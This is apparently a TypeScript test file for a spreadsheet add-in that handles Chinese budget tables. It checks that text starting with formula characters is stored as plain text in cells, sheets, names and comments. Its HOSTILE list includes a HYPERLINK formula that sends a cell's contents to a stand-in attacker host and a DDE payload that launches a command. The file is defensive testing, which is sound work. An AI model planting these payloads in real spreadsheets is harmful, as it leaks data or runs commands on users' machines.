/** Whatever a text begins with, Excel keeps it as that text: from a table, a file, a person, a template. */
import fc from "fast-check";
import { addSheet } from "../../src/excel/add-sheet";
import { insertValues, undoInsertion } from "../../src/excel/insert-value";
import { clearMarks, markCells } from "../../src/excel/marks";
import { insertOverviewSheet, removeOverviewSheet } from "../../src/excel/overview-sheet";
import { selectArea } from "../../src/excel/select-cell";
import { writeCells, undoWrite } from "../../src/excel/write-cells";
import { writeNarrativeSheet } from "../../src/excel/write-narrative-sheet";
import { overviewOf } from "../../src/narrative/overview/overview";
import { overviewSheet } from "../../src/narrative/overview/overview-sheet";
import { createBook } from "../../src/tables/book";
import { excel } from "../host/excel";
import { openWorkbook, type OpenWorkbook } from "../host/open-workbook";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  "=1+1",
  "+1",
  "+A1",
  "-1",
  "-A1*2",
  "@SUM(A1:A3)",
  "＝1+1",
  "＠SUM(A1)",
  "'=1",
  "''",
  "\t=1",
  " =1",
  "\n=1",
  "TRUE",
  "false",
  "1月2日",
  "50%",
  "￥5",
  "#N/A",
  "(5)",
  "=cmd|' /C calc'!A0",
];
const SHEET = "一般公共预算“三公”经费支出表";
/** More of them: npm run … TEXT_RUNS=1000. */
const RUNS = Number(process.env["TEXT_RUNS"] ?? 8);
let host: OpenWorkbook;

beforeAll(async () => {
  host = await openWorkbook("dadukou-2026");
  // rows of the sheet that nothing stands in
  await excel((context) => {
    context.workbook.worksheets.getItem(SHEET).getRange("A100").values = [["最后一行"]];
  });
});
afterAll(() => host.close());

/** What the cells hold, and where a formula stands: Univer knows, whatever the text looks like. */
async function held(address: string, sheet: string) {
  await host.book.settle();
  const { facade } = host.book.sheet(sheet);
  return {
    values: host.book.range(address, host.book.sheet(sheet)).values().flat(),
    formulas: facade
      .getRange(address)
      .getFormulas()
      .flat()
      .filter((one) => one !== ""),
  };
}

test("the host takes these for what Excel takes them for, where nobody holds that back", async () => {
  const written = ["=1+1", "+1", "-A1*2", "@SUM(A1:A3)", "＝1+1", "TRUE", "'=1", "- 一"];
  await excel((context) => {
    const cells = context.workbook.worksheets.getItem(SHEET).getRange("N1:N8");
    cells.values = written.map((text) => [text]);
  });
  const { values, formulas } = await held("N1:N8", SHEET);
  expect(formulas).toEqual(["=1+1", "=-A1*2", "=SUM(A1:A3)", "=1+1"]);
  expect([values[1], values[5], values[6], values[7]]).toEqual([1, true, "=1", "- 一"]);
});

test("in the selected cell, and after an undo", async () => {
  for (const [index, text] of HOSTILE.entries()) {
    const row = 40 + index;
    await selectArea({ sheet: SHEET, top: row, left: 0, bottom: row, right: 0 });
    const first = await insertValues([text], []);
    expect(await held(`A${row + 1}`, SHEET)).toEqual({ values: [text], formulas: [] });
    const cell = { sheet: SHEET, row, column: 0 };
    const second = await insertValues(["行政运行"], [{ cell, held: text }]);
    for (const one of [first, second]) expect(one.state).toBe("written");
    if (second.state !== "written" || !second.undo) throw new Error("not written");
    await undoInsertion(second.undo);
    expect(await held(`A${row + 1}`, SHEET)).toEqual({ values: [text], formulas: [] });
  }
}, 60000);

test("any text, in a cell for text or for anything, written by a repair and taken back", async () => {
  const starts = fc.constantFrom(
    "",
    "=",
    "+",
    "-",
    "@",
    "'",
    "\t",
    "＝",
    "1",
    "=-",
    "'=",
    "(",
    "#"
  );
  const texts = fc
    .tuple(starts, fc.string({ unit: "grapheme", minLength: 1, maxLength: 12 }))
    .map((parts) => parts.join(""));
  const cell = { sheet: SHEET, row: 80, column: 0 };
  await fc.assert(
    fc.asyncProperty(texts, fc.constantFrom("General", "@"), async (text, format) => {
      await excel((context) => {
        const range = context.workbook.worksheets.getItem(SHEET).getRange("A81");
        range.numberFormat = [[format]];
        range.values = [["旧"]];
      });
      const { undo } = await writeCells([{ cell, value: text, seen: "旧" }]);
      expect(await held("A81", SHEET)).toEqual({ values: [text], formulas: [] });
      await undoWrite(undo);
      expect(await held("A81", SHEET)).toEqual({ values: ["旧"], formulas: [] });
    }),
    { numRuns: RUNS }
  );
}, 600000);

test("in a sheet of our own, and in its name", async () => {
  const name = "=1+1";
  await addSheet({
    name,
    rows: [["甲", "乙"], ...HOSTILE.map((text) => [text, text])],
    widths: [50, 50],
  });
  const { values, formulas } = await held(`A2:A${HOSTILE.length + 1}`, name);
  expect(values).toEqual(HOSTILE);
  expect(formulas).toEqual([]);
});

test("in the narrative's sheet", async () => {
  const rows = HOSTILE.map((text) => ({
    look: "text" as const,
    content: { type: "text" as const, text },
  }));
  expect(await writeNarrativeSheet({ name: "预算说明", rows }, false)).toBe(true);
  const { values, formulas } = await held(`A1:A${HOSTILE.length}`, "预算说明");
  expect(values).toEqual(HOSTILE);
  expect(formulas).toEqual([]);
});

test("in the sheet of charts, where only the figures are formulas", async () => {
  const sheet = "'“=1";
  const rows = HOSTILE.map((name, index) => [String(200 + index), name, 10, 5, 5]);
  const book = createBook([
    {
      sheet,
      top: 0,
      left: 0,
      values: [
        ["2026年一般公共预算财政拨款支出预算表", null, null, null, null],
        ["单位：万元", null, null, null, null],
        ["科目编码", "科目名称", "总计", "基本支出", "项目支出"],
        ["", "合计", rows.length * 10, rows.length * 5, rows.length * 5],
        ...rows,
      ],
    },
  ]);
  const overview = overviewOf(book);
  if (!overview) throw new Error("no overview");
  // what is an amount to the recognition is no name
  const names = overview.categories.map(({ name }) => name);
  expect(names).toEqual(expect.arrayContaining(HOSTILE.slice(0, 9)));
  const planned = overviewSheet(overview, book);
  // The table itself is not there: the figures' references lead nowhere, and only the names are looked at.
  const withoutFigures = {
    ...planned,
    rows: planned.rows.map((row) => row.map((text, at) => (at === 0 ? text : ""))),
    charts: [],
  };
  const inserted = await insertOverviewSheet(withoutFigures);
  const { values, formulas } = await held(`A1:A${planned.rows.length}`, inserted.name);
  expect(formulas).toEqual([]);
  for (const name of names) expect(values).toContain(name);
  await removeOverviewSheet(inserted);
});

const comments = () =>
  Excel.run(async (context) => {
    const all = context.workbook.comments.load("items/content");
    await context.sync();
    return all.items.map(({ content }) => content);
  });

test("in comments", async () => {
  for (const text of HOSTILE) {
    await markCells([
      { cell: { sheet: SHEET, row: 90, column: 0 }, severity: "error", message: text },
    ]);
    const read = await comments();
    expect(read).toEqual([expect.stringContaining(text)]);
    expect(await held("A91", SHEET)).toEqual({ values: [""], formulas: [] });
    await clearMarks();
  }
});
